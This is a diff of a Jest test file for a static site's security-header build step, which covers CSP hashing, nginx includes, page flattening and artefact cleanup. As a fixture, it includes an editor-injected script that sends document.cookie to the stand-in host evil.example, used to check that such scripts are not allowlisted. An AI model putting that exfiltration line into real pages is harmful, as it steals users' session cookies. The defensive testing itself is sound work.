@@ -1,7 +1,8 @@
 /**
  * @jest-environment node
  *
- * public/_headers and the nginx include, written from a small built site in a temporary folder.
+ * What the build publishes: page files, public/_headers and the nginx include, written from a small
+ * built site in a temporary folder.
  */
 import fs from "node:fs";
 import os from "node:os";
@@ -9,171 +10,191 @@ import path from "node:path";
 import { cspHash } from "../../plugins/post-build/inline-scripts";
 import { toNginxInclude } from "../../plugins/post-build/nginx-headers";
 import { formOrigin, siteHeaders } from "../../plugins/post-build/security-headers";
-import { findPages } from "../../plugins/post-build/site-files";
+import { flattenPages, removeBuildArtefacts, restorePages } from "../../plugins/post-build/site-files";
 import { writeSecurityHeaders } from "../../plugins/post-build/write-security-headers";
 
-const loader = (pagePath: string) => `/*<![CDATA[*/window.pagePath="${pagePath}";/*]]>*/`;
+const loader = "(function(c){/* the bundle loader */})(document.currentScript)";
+const compilationHash = 'window.___webpackCompilationHash="abc";';
 const editorScript = "new Image().src='https://evil.example/?'+document.cookie";
 const termsMarkdown = `<p>These terms apply.</p>\n<script>${editorScript}</script>`;
+const adminPolicy = "default-src 'self'; script-src 'self' 'unsafe-eval'";
 
-/** A page as Gatsby builds it: `body` where the page renders its Markdown. */
+/** A page after the page-script rewrite: `body` where the page renders its Markdown. */
 const html = (pagePath: string, body = "") =>
   `<!DOCTYPE html><html><head><script type="application/ld+json">{}</script></head><body>` +
-  `<div id="___gatsby"><div class="prose">${body}</div></div>` +
-  `<script id="gatsby-script-loader">${loader(pagePath)}</script>` +
-  `<script>window.___webpackCompilationHash="abc";</script></body></html>`;
+  `<div id="___gatsby"><div class="prose">${body}</div></div><script>${compilationHash}</script>` +
+  `<script id="bundle-loader" data-page="${pagePath}" data-bundles='["/app.js"]'>${loader}</script></body></html>`;
 
-const files: Record<string, string> = {
-  "index.html": html("/"),
-  "about/index.html": html("/about"),
-  "terms/index.html": html("/terms", termsMarkdown),
-  "404.html": html("/404.html"),
-  "404/index.html": html("/404/"),
-  "_gatsby/slices/_gatsby-scripts-1.html": "<script>slice()</script>",
-  "page-data/404.html/page-data.json": "{}",
-  "app-707c4a314819745e08c7.js": "",
-  "styles.9bdfcd88dfaacee55209.css": "",
-  "app-707c4a314819745e08c7.js.map": "",
-  "static/abc/photo.jpg": "",
-};
-
-let siteDir: string;
-let warn: jest.Mock;
-let headersFile: string;
-let nginxFile: string;
-
-beforeAll(() => {
-  siteDir = fs.mkdtempSync(path.join(os.tmpdir(), "security-headers-"));
+function writeSite(files: Record<string, string>): string {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "published-site-"));
   for (const [file, text] of Object.entries(files)) {
-    fs.mkdirSync(path.dirname(path.join(siteDir, "public", file)), { recursive: true });
-    fs.writeFileSync(path.join(siteDir, "public", file), text);
+    fs.mkdirSync(path.dirname(path.join(dir, "public", file)), { recursive: true });
+    fs.writeFileSync(path.join(dir, "public", file), text);
   }
-  warn = jest.fn();
-  writeSecurityHeaders({
-    siteDir,
-    formEndpoint: "https://formspree.io/f/abcdwxyz",
-    markdown: [
-      { fileAbsolutePath: path.join(siteDir, "content/pages/terms.md"), html: termsMarkdown },
-      { fileAbsolutePath: path.join(siteDir, "content/pages/about.md"), html: "<p>About</p>" },
-    ],
-    warn,
-  });
-  headersFile = fs.readFileSync(path.join(siteDir, "public/_headers"), "utf8");
-  nginxFile = fs.readFileSync(path.join(siteDir, "nginx/headers.conf"), "utf8");
-});
-
-afterAll(() => fs.rmSync(siteDir, { recursive: true, force: true }));
-
-/** The rules of a _headers file: path → header lines. */
-function rules(text: string): Map<string, string[]> {
-  const blocks = text.split(/\n\n+/).filter((block) => block.startsWith("/"));
-  return new Map(
-    blocks.map((block) => [
-      block.split("\n")[0]!,
-      block
-        .split("\n")
-        .slice(1)
-        .map((l) => l.trim())
-        .filter(Boolean),
-    ]),
-  );
+  return dir;
 }
-const policyOf = (lines: string[] | undefined) =>
-  lines?.find((line) => line.startsWith("Content-Security-Policy: "))?.slice("Content-Security-Policy: ".length);
+
+/** The rules of a _headers file, in order: path and header lines. */
+function rules(text: string): [string, string[]][] {
+  return text
+    .split(/\n\n+/)
+    .filter((block) => block.startsWith("/"))
+    .map((block) => {
+      const [rule, ...lines] = block.split("\n");
+      return [rule!, lines.map((l) => l.trim()).filter(Boolean)];
+    });
+}
 
 describe("writeSecurityHeaders", () => {
-  it("gives an editor's script in Markdown no hash, and warns naming the file", () => {
-    const terms = policyOf(rules(headersFile).get("/terms"));
-    expect(terms).toContain(cspHash(loader("/terms")));
-    expect(terms).toContain(cspHash('window.___webpackCompilationHash="abc";'));
-    expect(terms).not.toContain(cspHash(editorScript));
-    expect(nginxFile).not.toContain(cspHash(editorScript));
+  let siteDir: string;
+  let warn: jest.Mock;
+  const write = (pageFiles: string[]) => {
+    writeSecurityHeaders({
+      siteDir,
+      pageFiles,
+      formEndpoint: "https://formspree.io/f/abcdwxyz",
+      markdown: [
+        { fileAbsolutePath: path.join(siteDir, "content/pages/terms.md"), html: termsMarkdown },
+        { fileAbsolutePath: path.join(siteDir, "content/pages/about.md"), html: "<p>About</p>" },
+      ],
+      ownPolicy: [{ path: "/admin", file: "admin.html", headers: { "Content-Security-Policy": adminPolicy } }],
+      warn,
+    });
+    return {
+      headersFile: fs.readFileSync(path.join(siteDir, "public/_headers"), "utf8"),
+      nginxFile: fs.readFileSync(path.join(siteDir, "nginx/headers.conf"), "utf8"),
+    };
+  };
+
+  beforeEach(() => {
+    siteDir = writeSite({
+      "index.html": html("/"),
+      "about.html": html("/about"),
+      "terms.html": html("/terms", termsMarkdown),
+      "404.html": html("/404.html"),
+    });
+    warn = jest.fn();
+  });
+  afterEach(() => fs.rmSync(siteDir, { recursive: true, force: true }));
+
+  it("puts one policy on every address, hashing the pages' scripts but never an editor's", () => {
+    const { headersFile, nginxFile } = write(["404.html", "about.html", "index.html", "terms.html"]);
+    const [first, ...others] = rules(headersFile);
+    expect(first![0]).toBe("/*");
+    const policy = first![1].find((line) => line.startsWith("Content-Security-Policy: "))!;
+    expect(policy).toBe(
+      `Content-Security-Policy: default-src 'self'; script-src 'self' ${[cspHash(loader), cspHash(compilationHash)].sort().join(" ")}; ` +
+        "style-src 'self' 'unsafe-inline'; img-src 'self' data:; connect-src 'self' https://formspree.io; " +
+        "form-action 'self' https://formspree.io; object-src 'none'; base-uri 'self'; frame-ancestors 'none'",
+    );
+    expect(others.filter(([, lines]) => lines.some((l) => l.startsWith("Content-Security-Policy:")))).toEqual([
+      ["/admin", ["! Content-Security-Policy", `Content-Security-Policy: ${adminPolicy}`]],
+    ]);
+    expect(headersFile + nginxFile).not.toContain(cspHash(editorScript));
     expect(warn).toHaveBeenCalledTimes(1);
     expect(warn.mock.calls[0]![0]).toMatch(/^content\/pages\/terms\.md contains a <script> in its Markdown/);
   });
 
-  it("writes one policy per page address, with that page's hashes and the form service's origin", () => {
-    const all = rules(headersFile);
-    expect(policyOf(all.get("/about"))).toBe(
-      `default-src 'self'; script-src 'self' ${cspHash(loader("/about"))} ${cspHash('window.___webpackCompilationHash="abc";')}; ` +
-        "style-src 'self' 'unsafe-inline'; img-src 'self' data:; connect-src 'self' https://formspree.io; " +
-        "form-action 'self' https://formspree.io; object-src 'none'; base-uri 'self'; frame-ancestors 'none'",
-    );
-    expect(policyOf(all.get("/about/"))).toBe(policyOf(all.get("/about")));
-    expect(policyOf(all.get("/404.html"))).toContain(cspHash(loader("/404.html")));
-    expect([...all.keys()].filter((key) => policyOf(all.get(key)))).toEqual([
-      "/",
-      "/index.html",
-      "/404",
-      "/404/",
-      "/404/index.html",
-      "/404.html",
-      "/about",
-      "/about/",
-      "/about/index.html",
-      "/terms",
-      "/terms/",
-      "/terms/index.html",
-    ]);
+  it("writes the same rules however many pages and bundles there are", () => {
+    const few = write(["about.html", "index.html"]);
+    const many = write(["404.html", "about.html", "index.html", "terms.html"]);
+    expect(rules(many.headersFile).map(([rule]) => rule)).toEqual(rules(few.headersFile).map(([rule]) => rule));
+    expect(rules(many.headersFile).map(([rule]) => rule)).toEqual(["/*", "/*.js", "/*.css", "/static/*", "/admin"]);
+    expect(many.nginxFile.split("\n").length).toBe(few.nginxFile.split("\n").length);
   });
 
-  it("never lets two rules that match one path set the same header (hosts would join them with commas)", () => {
-    const all = rules(headersFile);
-    const matches = (rule: string, target: string) =>
-      rule.endsWith("*") ? target.startsWith(rule.slice(0, -1)) : rule === target;
-    for (const target of [...all.keys()].map((rule) => rule.replace(/\*$/, "x"))) {
-      const names = [...all.entries()]
-        .filter(([rule]) => matches(rule, target))
-        .flatMap(([, lines]) => lines.map((line) => line.split(":")[0]));
-      expect({ target, names }).toEqual({ target, names: [...new Set(names)] });
+  it("sets each header once per address: later rules add Cache-Control, or detach what they replace", () => {
+    const all = rules(write(["index.html"]).headersFile);
+    const common = all[0]![1].map((line) => line.split(":")[0]);
+    for (const [rule, lines] of all.slice(1)) {
+      const detached = lines.filter((l) => l.startsWith("! ")).map((l) => l.slice(2));
+      const set = lines.filter((l) => !l.startsWith("! ")).map((l) => l.split(":")[0]!);
+      expect({ rule, clash: set.filter((name) => common.includes(name) && !detached.includes(name)) }).toEqual({
+        rule,
+        clash: [],
+      });
     }
-  });
-
-  it("makes content-hashed files and /static/ immutable, and has HTML and page-data revalidate", () => {
-    const all = rules(headersFile);
-    const immutable = "Cache-Control: public, max-age=31536000, immutable";
-    const revalidate = "Cache-Control: public, max-age=0, must-revalidate";
-    expect(all.get("/app-707c4a314819745e08c7.js")).toEqual([immutable]);
-    expect(all.get("/styles.9bdfcd88dfaacee55209.css")).toEqual([immutable]);
-    expect(all.has("/app-707c4a314819745e08c7.js.map")).toBe(false);
-    expect(all.get("/static/*")).toEqual([immutable]);
-    expect(all.get("/page-data/*")).toEqual([revalidate]);
-    expect(all.get("/terms")).toContain(revalidate);
-    expect(all.get("/*")).toEqual([
-      "Strict-Transport-Security: max-age=31536000",
-      "X-Content-Type-Options: nosniff",
-      "Referrer-Policy: strict-origin-when-cross-origin",
-      "Permissions-Policy: camera=(), microphone=(), geolocation=()",
-      "X-Frame-Options: DENY",
-      "Cross-Origin-Resource-Policy: same-origin",
-    ]);
-  });
-
-  it("gives nginx the same policy, with every header in every location and `always`", () => {
-    const terms = nginxFile.split("\n\n").find((block) => block.startsWith('location = "/terms" {'))!;
-    expect(terms).toContain(
-      `add_header Content-Security-Policy "${policyOf(rules(headersFile).get("/terms"))}" always;`,
+    expect(all.slice(1, 4).map(([, lines]) => lines)).toEqual(
+      Array(3).fill(["Cache-Control: public, max-age=31536000, immutable"]),
     );
-    expect(terms).toContain('try_files "/terms/index.html" =404;');
-    for (const block of nginxFile.split("\n\n").filter((b) => b.startsWith("location"))) {
+  });
+
+  it("warns when a page lacks inline scripts the others have, as the one policy is then wider than it", () => {
+    fs.writeFileSync(path.join(siteDir, "public/about.html"), "<html><body>no scripts</body></html>");
+    write(["about.html", "index.html"]);
+    expect(warn.mock.calls.map((call) => call[0])).toContainEqual(expect.stringMatching(/^about\.html lack/));
+  });
+
+  it("gives nginx the same headers in every location, `always`, the addresses hosts have, and /admin its policy", () => {
+    const { nginxFile } = write(["index.html"]);
+    const blocks = nginxFile.split("\n\n").filter((b) => b.startsWith("location"));
+    for (const block of blocks) {
       expect(block).toContain('add_header Strict-Transport-Security "max-age=31536000" always;');
       expect(block).toContain('add_header Cross-Origin-Resource-Policy "same-origin" always;');
+      expect(block.match(/add_header Content-Security-Policy/g)).toHaveLength(1);
       expect(block.match(/add_header/g)!.length).toBe(block.match(/ always;/g)!.length);
     }
-    expect(nginxFile).toContain('location = "/terms/" {');
-    expect(nginxFile).toMatch(/location = "\/terms\/index\.html" \{[^}]*return 301 "\/terms";/);
+    expect(blocks.find((b) => b.startsWith("location / {"))).toContain("try_files $uri $uri.html =404;");
+    expect(blocks.find((b) => b.startsWith('location = "/admin" {'))).toContain(
+      `add_header Content-Security-Policy "${adminPolicy}" always;`,
+    );
+    expect(nginxFile).toContain("return 301 $page;");
   });
 });
 
-describe("findPages", () => {
-  it("maps about/index.html to /about (trailingSlash: never), and skips Gatsby's fragments and data", () => {
-    expect(findPages(path.join(siteDir, "public")).map((page) => [page.path, page.file])).toEqual([
-      ["/", "index.html"],
-      ["/404", "404/index.html"],
-      ["/404.html", "404.html"],
-      ["/about", "about/index.html"],
-      ["/terms", "terms/index.html"],
+describe("flattenPages and restorePages", () => {
+  const pagePaths = ["/", "/about", "/404/", "/404.html"];
+  let siteDir: string;
+  beforeEach(() => {
+    siteDir = writeSite({
+      "index.html": "home",
+      "about/index.html": "about",
+      "404/index.html": "404 again",
+      "404.html": "404",
+    });
+  });
+  afterEach(() => fs.rmSync(siteDir, { recursive: true, force: true }));
+  const listing = () => fs.readdirSync(path.join(siteDir, "public"), { recursive: true }).sort();
+
+  it("publishes about/index.html as about.html, and Gatsby's second 404 page not at all", () => {
+    expect(flattenPages(path.join(siteDir, "public"), pagePaths)).toEqual([
+      { file: "404.html", pagePath: "/404.html" },
+      { file: "about.html", pagePath: "/about" },
+      { file: "index.html", pagePath: "/" },
     ]);
+    expect(listing()).toEqual(["404.html", "about.html", "index.html"]);
+  });
+
+  it("puts the pages back where Gatsby wrote them, for a warm build", () => {
+    flattenPages(path.join(siteDir, "public"), pagePaths);
+    restorePages(path.join(siteDir, "public"), pagePaths);
+    expect(listing()).toEqual(["404", "404.html", "404/index.html", "about", "about/index.html", "index.html"]);
+    expect(fs.readFileSync(path.join(siteDir, "public/about/index.html"), "utf8")).toBe("about");
+  });
+});
+
+describe("removeBuildArtefacts", () => {
+  it("removes earlier builds' bundles before the build, and webpack's and Gatsby's build-only files", () => {
+    const siteDir = writeSite({
+      "app-707c4a314819745e08c7.js": "",
+      "app-707c4a314819745e08c7.js.map": "",
+      "framework-79115e5376afaa5decf7.js.LICENSE.txt": "",
+      "styles.9bdfcd88dfaacee55209.css": "",
+      "webpack.stats.json": "{}",
+      "chunk-map.json": "{}",
+      "_gatsby/slices/_gatsby-scripts-1.html": "",
+      "~partytown/partytown.js": "",
+      "index.html": "",
+      "favicon.svg": "",
+      "static/abc/photo.jpg": "",
+    });
+    const publicDir = path.join(siteDir, "public");
+    expect(removeBuildArtefacts(publicDir, { bundles: false }).sort()).toEqual(
+      ["_gatsby", "app-707c4a314819745e08c7.js.map", "chunk-map.json", "webpack.stats.json", "~partytown"].sort(),
+    );
+    removeBuildArtefacts(publicDir, { bundles: true });
+    expect(fs.readdirSync(publicDir).sort()).toEqual(["favicon.svg", "index.html", "static"]);
+    fs.rmSync(siteDir, { recursive: true, force: true });
   });
 });
 
@@ -191,7 +212,7 @@ describe("formOrigin", () => {
 
 describe("toNginxInclude", () => {
   it("refuses a value nginx would read as a variable", () => {
-    const site = siteHeaders({ pages: [], hashedFiles: ["/a$b-0123456789abcdef0123.js"] }, "https://formspree.io");
+    const site = siteHeaders("script-src 'self' $evil");
     expect(() => toNginxInclude(site)).toThrow(/cannot write/);
   });
 });
